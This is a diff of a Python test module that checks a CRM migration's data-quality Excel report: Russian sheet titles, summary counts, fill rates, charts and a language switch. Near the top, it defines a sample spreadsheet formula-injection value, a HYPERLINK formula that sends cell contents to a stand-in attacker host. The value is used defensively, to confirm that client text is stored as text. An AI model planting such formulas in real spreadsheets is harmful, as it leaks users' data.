@@ -7,6 +7,7 @@ formulas (``=HYPERLINK``, ``@SUM``, ``-1``, ``+7 495 …``) are part of the data
 """
 from __future__ import annotations
 
+import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -20,11 +21,13 @@ from sqlalchemy.engine import make_url
 
 from connectors.crm_db import schema as s
 from connectors.crm_db.engine import TargetError
-from connectors.crm_db.report import COLUMN_NOTES, SHEETS, flatten_payload, quality_report
-from connectors.xlsx_writer import write_workbook
+from connectors.crm_db.report import OPTIONAL_TABLES, SHEETS, flatten_payload, quality_report
+from connectors.crm_db.report_workbook import LOW_FILL, report_workbook
+from connectors.xlsx_writer import Sheet, write_workbook
 from cli.runner import execute
 from tests.clientdata import BUH_ROWS, CRM_ROWS, write_dataset
 from tests.conftest import _server_database  # the target_url databases, kept for a whole module here
+from vocabulary.messages import set_language, text
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Лютик")'
 CRM = [list(r) for r in CRM_ROWS]
@@ -41,13 +44,19 @@ class Built:
     url: str
     runs: list[str]  # run ids, oldest first
     report: dict[str, pd.DataFrame]
+    book: dict[str, Sheet]  # as written: title → sheet
     workbook: openpyxl.Workbook
     path: Path
 
     def sheet(self, name: str) -> list[dict]:
-        """A sheet of the saved workbook as records (header → value)."""
-        rows = list(self.workbook[name].iter_rows(values_only=True))
-        return [dict(zip(rows[0], r)) for r in rows[1:]]
+        """A sheet of the saved workbook (in Russian) as records, keyed by the report's column names."""
+        title = text(f"report.sheet.{name}")
+        columns = {self.book[title].headers.get(c, c): c for c in self.book[title].frame.columns}
+        rows = list(self.workbook[title].iter_rows(values_only=True))
+        return [dict(zip([columns[h] for h in rows[0]], r)) for r in rows[1:]]
+
+    def summary(self) -> dict[str, object]:
+        return {row["item"]: row["value"] for row in self.sheet("summary")}
 
     def scalar(self, query) -> object:  # noqa: ANN001
         engine = create_engine(self.url)
@@ -72,8 +81,9 @@ def built(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFacto
         _add_review_pairs(url, runs[-1])
         path = folder / "quality.xlsx"
         report = quality_report(url)
-        write_workbook(path, report, column_notes=COLUMN_NOTES)
-        yield Built(url, runs, report, openpyxl.load_workbook(path), path)
+        book = report_workbook(report)
+        write_workbook(path, book)
+        yield Built(url, runs, report, book, openpyxl.load_workbook(path), path)
     finally:
         databases.close()  # drops a server database
 
@@ -102,32 +112,46 @@ def _add_review_pairs(url: str, run_id: str) -> None:
 
 
 def test_sheets_in_order_with_their_columns(built: Built) -> None:
-    assert built.workbook.sheetnames == list(SHEETS)
+    """Russian titles and headers; the merges and conflicts sheets only with their tables (not in this schema)."""
+    assert list(built.report) == [name for name in SHEETS if name not in OPTIONAL_TABLES]
+    assert built.workbook.sheetnames == [text(f"report.sheet.{name}") for name in built.report] == list(built.book)
+    assert built.workbook.sheetnames[:3] == ["Сводка", "По источникам", "Заполненность"]
     for name, frame in built.report.items():
-        header = next(built.workbook[name].iter_rows(max_row=1, values_only=True))
-        assert list(header) == list(frame.columns)
-        assert built.workbook[name].max_row == len(frame) + 1
+        ws = built.workbook[text(f"report.sheet.{name}")]
+        header = next(ws.iter_rows(max_row=1, values_only=True))
+        assert list(header) == [built.book[ws.title].headers.get(c, c) for c in frame.columns]
+        assert ws.max_row == len(frame) + 1
+        assert ws.freeze_panes == "A2"
+        if len(frame):
+            (table,) = ws.tables.values()  # an Excel table with filter buttons over the whole sheet
+            assert table.ref == ws.dimensions and table.autoFilter is not None
+    quarantine = next(built.workbook["Карантин"].iter_rows(max_row=1))
+    assert [c.value for c in quarantine] == ["Источник", "Место в источнике", "Тип записи", "Ключ в источнике",
+                                             "Причины", "Запись"]
+    assert quarantine[4].comment.text == "Почему запись не загружена."
 
 
 def test_summary_is_the_last_run_and_the_live_crm(built: Built) -> None:
-    summary = {row["item"]: row["value"] for row in built.sheet("summary")}
+    summary = {key: built.summary()[text(f"report.item.{key}")] for key in (
+        "run_id", "status", "companies_deleted", "records_read", "crm_companies", "crm_branches", "crm_contacts",
+        "crm_with_inn", "crm_with_inn_pct", "crm_phones", "crm_phones_invalid", "crm_review_waiting", "quarantined")}
     c, ct, ph = s.companies, s.contacts, s.phones
-    assert summary["run id"] == built.runs[-1] and summary["status"] == "success"
-    assert summary["companies deleted"] == 1  # Лютик is gone from the 1C export
-    assert summary["records read"] == built.scalar(select(s.migration_runs.c.records_read)
+    assert summary["run_id"] == built.runs[-1] and summary["status"] == "success"
+    assert summary["companies_deleted"] == 1  # Лютик is gone from the 1C export
+    assert summary["records_read"] == built.scalar(select(s.migration_runs.c.records_read)
                                                    .where(s.migration_runs.c.id == built.runs[-1]))
     live = c.c.deleted_at.is_(None)
-    assert summary["CRM now: companies"] == built.scalar(select(func.count()).where(live)) == 4
-    assert summary["CRM now: branches"] == built.scalar(select(func.count()).where(live, c.c.parent_id.is_not(None)))
-    assert summary["CRM now: contacts"] == built.scalar(select(func.count()).where(ct.c.deleted_at.is_(None))) == 3
-    assert summary["CRM now: companies with INN"] == 3 and summary["CRM now: companies with INN, %"] == 75.0
+    assert summary["crm_companies"] == built.scalar(select(func.count()).where(live)) == 4
+    assert summary["crm_branches"] == built.scalar(select(func.count()).where(live, c.c.parent_id.is_not(None)))
+    assert summary["crm_contacts"] == built.scalar(select(func.count()).where(ct.c.deleted_at.is_(None))) == 3
+    assert summary["crm_with_inn"] == 3 and summary["crm_with_inn_pct"] == 75.0
     company_phones = built.scalar(select(func.count()).select_from(ph.join(c, c.c.id == ph.c.company_id))
                                   .where(live, ph.c.contact_id.is_(None)))
     contact_phones = built.scalar(select(func.count()).select_from(ph.join(ct, ct.c.id == ph.c.contact_id))
                                   .where(ct.c.deleted_at.is_(None)))
-    assert summary["CRM now: phones"] == company_phones + contact_phones
-    assert summary["CRM now: phones not valid (kept as written)"] == 1  # "12"
-    assert summary["CRM now: review pairs waiting"] == 1
+    assert summary["crm_phones"] == company_phones + contact_phones
+    assert summary["crm_phones_invalid"] == 1  # "12"
+    assert summary["crm_review_waiting"] == 1
     assert summary["quarantined"] == len(built.sheet("quarantine")) == 2
 
 
@@ -154,7 +178,7 @@ def test_warnings_name_the_record_to_fix(built: Built) -> None:
     rows = built.sheet("warnings")
     inn = next(r for r in rows if r["warning"].startswith("inn '7707083890'"))
     assert (inn["source"], inn["origin"], inn["entity"], inn["crm_name"]) == (
-        "old_crm", "Клиенты!4", "company", 'ООО "Ромашка"')
+        "old_crm", "Клиенты!4", "компания", 'ООО "Ромашка"')
     phone = next(r for r in rows if r["source"] == "buh")
     assert phone["source_key"] == "-1" and phone["warning"].startswith("phone '12'")
     assert len(rows) == 2
@@ -163,7 +187,7 @@ def test_warnings_name_the_record_to_fix(built: Built) -> None:
 def test_duplicates_list_every_origin(built: Built) -> None:
     (romashka,) = built.sheet("duplicates")
     assert (romashka["entity"], romashka["name"], romashka["inn"], romashka["records"], romashka["sources"]) == (
-        "company", 'ООО "Ромашка"', "7707083893", 3, "old_crm, buh")
+        "компания", 'ООО "Ромашка"', "7707083893", 3, "old_crm, buh")
     assert romashka["origins"].splitlines() == ["old_crm Клиенты!4", "old_crm Клиенты!5", "buh buh.csv:2 [001]"]
 
 
@@ -201,8 +225,8 @@ def test_client_text_never_becomes_a_formula(built: Built) -> None:
 def test_an_earlier_run_by_id_prefix(built: Built) -> None:
     report = quality_report(built.url, built.runs[0][:8])
     summary = dict(zip(report["summary"]["item"], report["summary"]["value"]))
-    assert summary["run id"] == built.runs[0] and summary["companies deleted"] == 0
-    assert summary["companies created"] == 5
+    assert summary["Запуск"] == built.runs[0] and summary["Компании: удалены"] == 0
+    assert summary["Компании: созданы"] == 5
     assert len(report["quarantine"]) == 2
 
 
@@ -233,3 +257,75 @@ def test_a_target_without_data_is_a_one_line_error(target_url: str) -> None:
 ])
 def test_stored_records_read_as_one_line(payload: str | None, expected: str | None) -> None:
     assert flatten_payload(payload) == expected
+
+
+def test_fill_rate_per_field_and_source(built: Built) -> None:
+    rates = {row["field"]: row for row in built.sheet("fill_rate")}
+    c, sl = s.companies, s.source_links
+    linked = sl.join(c, c.c.id == sl.c.crm_id)
+    live = [sl.c.source == "old_crm", sl.c.entity == "company", sl.c.deleted_at.is_(None), c.c.deleted_at.is_(None)]
+    total = built.scalar(select(func.count()).select_from(linked).where(*live))
+    with_inn = built.scalar(select(func.count()).select_from(linked).where(*live, c.c.inn.is_not(None), c.c.inn != ""))
+    assert rates["Компания: ИНН"]["old_crm"] == round(100 * with_inn / total, 1)
+    assert set(rates["Компания: ИНН"]) == {"field", "old_crm", "buh"}
+    assert "Контакт: должность" in rates
+    ws = built.workbook["Заполненность"]
+    ranges = {str(cf.sqref): [(r.operator, r.formula) for r in cf.rules] for cf in ws.conditional_formatting}
+    last = ws.max_row
+    assert ranges == {f"B2:B{last}": [("lessThan", [str(LOW_FILL)])], f"C2:C{last}": [("lessThan", [str(LOW_FILL)])]}
+
+
+def test_quarantine_reasons_are_counted(built: Built) -> None:
+    assert built.sheet("quarantine_reasons") == [{"reason": "name: is empty", "records": 2}]
+
+
+def test_the_summary_has_three_charts_of_the_other_sheets(built: Built) -> None:
+    with zipfile.ZipFile(built.path) as package:
+        charts = sorted(n for n in package.namelist() if n.startswith("xl/charts/chart"))
+        xml = "".join(package.read(n).decode("utf-8") for n in charts)
+        drawing_rels = package.read("xl/worksheets/_rels/sheet1.xml.rels").decode("utf-8")
+    assert len(charts) == 3 and "drawing" in drawing_rels  # all on the first sheet, the summary
+    for title in ("Записи и карантин по источникам", "Карантин по причинам", "Заполненность полей по источникам, %"):
+        assert title in xml
+    assert "'По источникам'!$A$2:$A$3" in xml and "'Причины карантина'!$B$2" in xml
+    assert "Заполненность!$C$2:$C$18" in xml  # one series per source, a row per field
+
+
+def test_english_with_language_en(built: Built) -> None:
+    set_language("en")
+    try:
+        book = report_workbook(built.report)
+    finally:
+        set_language("ru")
+    assert list(book)[:4] == ["Summary", "By source", "Fill rate", "Quarantine reasons"]
+    assert book["Quarantine"].headers["origin"] == "Origin"
+    assert book["Quarantine"].notes["reasons"] == "Why the record was not loaded."
+
+
+def test_merges_and_conflicts_sheets_come_with_their_tables(tmp_path: Path, built: Built) -> None:
+    """Tables of later schema revisions: a sheet each, as stored, when the target has them."""
+    if not built.url.startswith("sqlite"):
+        pytest.skip("the tables are added to a copy of the SQLite target")
+    copy = tmp_path / "crm.db"
+    copy.write_bytes(Path(make_url(built.url).database).read_bytes())
+    url = f"sqlite:///{copy}"
+    engine = create_engine(url)
+    with engine.begin() as conn:
+        conn.exec_driver_sql("CREATE TABLE merges (id INTEGER PRIMARY KEY, entity TEXT, left_source TEXT, "
+                             "left_key TEXT, right_source TEXT, right_key TEXT, score INTEGER, reasons TEXT)")
+        conn.exec_driver_sql("INSERT INTO merges VALUES (1, 'company', 'old_crm', 'Клиенты!4', 'buh', '001', 100, "
+                             "'=same INN')")
+        conn.exec_driver_sql("CREATE TABLE conflicts (id INTEGER PRIMARY KEY, run_id TEXT, entity TEXT, crm_id INTEGER,"
+                             " field TEXT, crm_value TEXT, source_value TEXT)")
+    engine.dispose()
+    report = quality_report(url)
+    assert list(report) == list(SHEETS)
+    assert report["merges"].to_dict("records") == [{"entity": "company", "left_source": "old_crm",
+                                                    "left_key": "Клиенты!4", "right_source": "buh", "right_key": "001",
+                                                    "score": 100, "reasons": "=same INN"}]
+    assert report["conflicts"].empty and list(report["conflicts"].columns)[:2] == ["run_id", "entity"]
+    path = tmp_path / "quality.xlsx"
+    write_workbook(path, report_workbook(report))
+    ws = openpyxl.load_workbook(path)["Слияния"]
+    assert [c.value for c in ws[1]][-2:] == ["Сходство", "Причины"]
+    assert (ws["G2"].value, ws["G2"].data_type, ws["G2"].quotePrefix) == ("=same INN", "s", True)
